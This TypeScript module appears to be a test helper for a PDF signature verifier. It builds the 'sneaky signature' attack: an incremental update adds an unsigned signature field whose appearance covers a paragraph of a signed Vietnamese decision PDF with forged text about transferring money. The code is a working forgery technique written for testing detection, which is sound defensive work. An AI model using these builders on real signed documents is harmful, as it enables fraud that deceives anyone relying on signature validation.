import { PdfStream, PdfString, PdfValue } from '../../src/verify/pdf-reader/pdf-values';
import { annotsWith, fieldsWith, UpdateEntries } from './form-updates';
import { appendRevision, lastRevision, nextObjectNumber, pageTree } from './incremental-update';
import { dict, name, ref } from './pdf-value-writer';

/**
 * The "sneaky signature" (Rohlmann, Mladenov, Mainka, Schwenk, "Breaking the Specification: PDF
 * Certification", IEEE S&P 2021; pyHanko's difference analysis): after a document is signed, an incremental update adds a signature field that is never
 * signed, whose widget appearance paints a white box over a paragraph and writes another one. The
 * page shows the forged text; a verifier that counts "a signature field was added" as allowed calls
 * the document valid. The builders here write that update and the ways an attacker would dress it.
 */

export const FORGED_TEXT = 'Dieu 1. Huy bo toan bo ke hoach; chuyen 5 ty dong cho ong X.';
/** over "Điều 1. Phê duyệt …" of quyet-dinh-libreoffice.pdf (A4, PDF units from the bottom left) */
export const PARAGRAPH_RECT = [50, 640, 545, 695];

export interface AppearanceOptions {
  readonly bbox?: number[];
  readonly matrix?: number[];
  /** the content stream; default a white box over the whole box and the forged sentence */
  readonly content?: string;
}

/** a form XObject that paints the forged paragraph (Helvetica, so any viewer can draw it) */
export function forgedAppearance(options: AppearanceOptions = {}): PdfStream {
  const bbox = options.bbox ?? [
    0,
    0,
    PARAGRAPH_RECT[2] - PARAGRAPH_RECT[0],
    PARAGRAPH_RECT[3] - PARAGRAPH_RECT[1],
  ];
  const content =
    options.content ??
    `q 1 1 1 rg ${bbox[0]} ${bbox[1]} ${bbox[2] - bbox[0]} ${bbox[3] - bbox[1]} re f Q ` +
      `BT /F1 11 Tf 0 g ${bbox[0] + 6} ${bbox[1] + 20} Td (${FORGED_TEXT}) Tj ET`;
  return new PdfStream(
    dict({
      Type: name('XObject'),
      Subtype: name('Form'),
      BBox: bbox,
      ...(options.matrix ? { Matrix: options.matrix } : {}),
      Resources: dict({
        Font: dict({ F1: dict({ Type: name('Font'), Subtype: name('Type1'), BaseFont: name('Helvetica') }) }),
      }),
    }),
    Buffer.from(content, 'latin1'),
  );
}

export interface SneakyOptions {
  /** entries of the widget (and merged field) dictionary, given its object number `n`; undefined removes one */
  readonly widget?: (n: number) => Record<string, PdfValue | undefined>;
  /** objects n + 1 … the widget refers to; default n + 1 = forgedAppearance() */
  readonly objects?: (n: number) => UpdateEntries;
  /** list the field in /AcroForm /Fields (default true); false leaves only the widget on the page */
  readonly inForm?: boolean;
  /** where in the page's /Annots (default last, drawn on top of everything) */
  readonly position?: number;
}

/**
 * The sneaky signature: one dictionary that is both an unsigned signature field (/FT /Sig, no /V)
 * and its widget on page 1, over the paragraph, with the forged appearance.
 */
export function addSneakySignature(pdf: Buffer, options: SneakyOptions = {}): Buffer {
  const rev = lastRevision(pdf);
  const { firstPageNum } = pageTree(rev);
  const n = nextObjectNumber(rev);
  const entries: Record<string, PdfValue | undefined> = {
    Type: name('Annot'),
    Subtype: name('Widget'),
    FT: name('Sig'),
    T: new PdfString(Buffer.from('ChuKy-BoSung'), false),
    Rect: PARAGRAPH_RECT,
    F: 4,
    P: ref(firstPageNum),
    AP: dict({ N: ref(n + 1) }),
    ...options.widget?.(n),
  };
  const widget = dict(
    Object.fromEntries(Object.entries(entries).filter((e): e is [string, PdfValue] => e[1] !== undefined)),
  );
  const objects: UpdateEntries = [
    [n, widget],
    ...(options.objects?.(n) ?? [[n + 1, forgedAppearance()]]),
    ...annotsWith(rev, ref(n), options.position),
    ...(options.inForm === false ? [] : fieldsWith(rev, ref(n))),
  ];
  return appendRevision(pdf, new Map(objects));
}

/**
 * The same field written as a parent field (/FT /Sig, /T, /Kids) and a separate widget, as form
 * editors write it; the widget carries the forged appearance.
 */
export function addSneakySignatureWithKids(pdf: Buffer): Buffer {
  const rev = lastRevision(pdf);
  const { firstPageNum } = pageTree(rev);
  const n = nextObjectNumber(rev);
  const field = dict({
    FT: name('Sig'),
    T: new PdfString(Buffer.from('ChuKy-BoSung'), false),
    Kids: [ref(n + 1)],
  });
  const widget = dict({
    Type: name('Annot'),
    Subtype: name('Widget'),
    Parent: ref(n),
    Rect: PARAGRAPH_RECT,
    F: 4,
    P: ref(firstPageNum),
    AP: dict({ N: ref(n + 2) }),
  });
  return appendRevision(
    pdf,
    new Map([
      [n, field],
      [n + 1, widget],
      [n + 2, forgedAppearance()],
      ...annotsWith(rev, ref(n + 1)),
      ...fieldsWith(rev, ref(n)),
    ]),
  );
}
